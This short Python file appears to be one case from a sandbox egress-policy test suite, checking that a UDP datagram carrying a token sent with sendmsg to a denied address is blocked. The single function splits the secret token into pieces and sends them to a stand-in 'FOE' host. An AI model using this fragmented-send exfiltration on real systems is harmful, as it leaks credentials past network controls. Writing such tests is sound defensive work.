"""UDP: sendmsg
Sends a datagram in pieces with sendmsg.
policy: denied-address
audit: explicitlyDeniedIP
since: 3.6
proof: arrival
"""


def attack(at):
    at.udp().sendmsg([at.token[:3], at.token[3:]], [], 0, (at.FOE, at.PORT))
    return True
